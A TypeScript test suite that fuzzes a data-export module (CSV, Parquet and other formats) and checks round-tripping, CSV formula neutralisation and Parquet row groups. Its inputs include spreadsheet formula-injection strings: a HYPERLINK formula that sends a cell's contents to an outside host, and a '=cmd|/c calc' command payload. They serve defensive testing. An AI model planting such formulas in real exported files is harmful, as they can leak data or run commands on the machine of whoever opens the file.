import fc from 'fast-check';
import { parquetMetadata } from 'hyparquet';
import { expect, test } from 'vitest';
import { columnNames, columns, type ExportRow } from '../../../src/export/columns.ts';
import { formats } from '../../../src/export/formats.ts';
import { type ExportFormat, exportFormats } from '../../../src/shared/export-format.ts';
import { namesOf } from '../../../src/shared/names.ts';
import { expected, readBack } from '../../support/exported.ts';

const everyFormat = namesOf(exportFormats);

/** Characters that break files: quotes, separators, line ends, formulas, emoji, texts that look like something else. */
const nasty = fc.oneof(
  fc.constantFrom(
    '',
    '"',
    '""',
    ',',
    ';',
    '\n',
    '\r\n',
    '\r',
    '\t',
    "'",
    'null',
    'true',
    '01',
    '1e5',
    '😀👩‍👩‍👧',
    '\u2028',
    'x\uFEFF',
  ),
  fc.constantFrom(
    '=1+1',
    '+1',
    '-1',
    '@nasa',
    '\t=1',
    '\r=1',
    '＝1',
    "'=1",
    '=HYPERLINK("http://a.org?"&A1,"x")',
  ),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
);
const text = fc.array(nasty, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(''));
const json = fc.array(
  fc.record({ kind: fc.constantFrom('PHOTO', 'VIDEO'), url: text, alt: fc.option(text) }),
  { maxLength: 2 },
);
const byKind = {
  text,
  whole: fc.maxSafeInteger(),
  real: fc.integer({ min: -10_000, max: 10_000 }).map((score) => score / 10_000),
  flag: fc.boolean(),
  instant: fc.date({ min: new Date('0001-01-01'), max: new Date('9999-12-31'), noInvalidDate: true }),
  list: fc.array(text, { maxLength: 3 }),
  json,
} as const;
/**
 * A text that already looks like a neutralised one is read back without its apostrophe: CSV cannot distinguish them.
 */
const isDefused = (value: unknown) => typeof value === 'string' && /^'[=+\-@\t\r＝＋－＠]/u.test(value);

const row = fc.record(
  Object.fromEntries(
    columnNames.map((name) => {
      const { kind, nullable } = columns[name];
      const value: fc.Arbitrary<unknown> = byKind[kind];
      return [name, nullable ? fc.option(value) : value];
    }),
  ),
) as unknown as fc.Arbitrary<ExportRow>; // safe: the columns are its keys

async function* batchesOf(rows: readonly ExportRow[], size: number) {
  yield [];
  for (let at = 0; at < rows.length; at += size) yield rows.slice(at, at + size);
}

async function encode(format: ExportFormat, rows: readonly ExportRow[], size = 3): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of formats[format](batchesOf(rows, size))) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks);
}

test.each(everyFormat)(
  '%s can be read back to the rows that were written, whatever is in them',
  async (format) => {
    await fc.assert(
      fc.asyncProperty(fc.array(row, { maxLength: 8 }), async (rows) => {
        fc.pre(format !== 'CSV' || !rows.some((each) => Object.values(each).some(isDefused)));
        expect(await readBack(format, await encode(format, rows))).toEqual(rows.map(expected));
      }),
      { numRuns: 60 },
    );
  },
);

const someRow = fc.sample(row, { numRuns: 1, seed: 7 })[0] as ExportRow; // safe: one was asked for

test('in CSV a formula is neutralised, and a number or a minus inside a text is not changed', async () => {
  const formula = { ...someRow, text: '=cmd|/c calc', authorName: '-2+3', sentiment: -0.5, client: 'a-b' };
  const csv = (await encode('CSV', [formula])).toString();
  expect(csv).toContain(",'=cmd|/c calc,");
  expect(csv).toContain(",'-2+3,");
  expect(csv).toContain(',-0.5,');
  expect(csv).toContain(',a-b,');
});

test('CSV has a header, CRLF, and distinguishes null from an empty text', async () => {
  const csv = (await encode('CSV', [{ ...someRow, url: null, text: '' }])).toString();
  const [header, record = ''] = csv.split('\r\n');
  expect(header).toBe(columnNames.join(','));
  expect((await readBack('CSV', Buffer.from(csv)))[0]).toMatchObject({ url: null, text: '' });
  expect(record).toContain(',"",');
  expect(csv.endsWith('\r\n')).toBe(true);
});

test.each(everyFormat)('%s without posts is a complete file', async (format) => {
  expect(await readBack(format, await encode(format, []))).toEqual([]);
});

test('Parquet has types, and groups of 5,000 rows at most', async () => {
  const bytes = await encode(
    'PARQUET',
    Array.from({ length: 10_500 }, () => someRow),
    500,
  );
  const { row_groups, schema } = parquetMetadata(new Uint8Array(bytes).buffer);
  expect(row_groups.map(({ num_rows }) => Number(num_rows))).toEqual([5_000, 5_000, 500]);
  const typeOf = (name: string) => schema.find((element) => element.name === name);
  expect(typeOf('likes')).toMatchObject({ type: 'INT64', repetition_type: 'OPTIONAL' });
  expect(typeOf('createdAt')).toMatchObject({
    converted_type: 'TIMESTAMP_MILLIS',
    repetition_type: 'REQUIRED',
  });
  expect(typeOf('own')).toMatchObject({ type: 'BOOLEAN' });
  expect(typeOf('hashtags')).toMatchObject({ converted_type: 'LIST' });
});

test('a group of Parquet is limited by its characters, too', async () => {
  const long = { ...someRow, text: 'x'.repeat(25_000) };
  const bytes = await encode(
    'PARQUET',
    Array.from({ length: 1_500 }, () => long),
    500,
  );
  expect(parquetMetadata(new Uint8Array(bytes).buffer).row_groups.length).toBeGreaterThan(1);
});
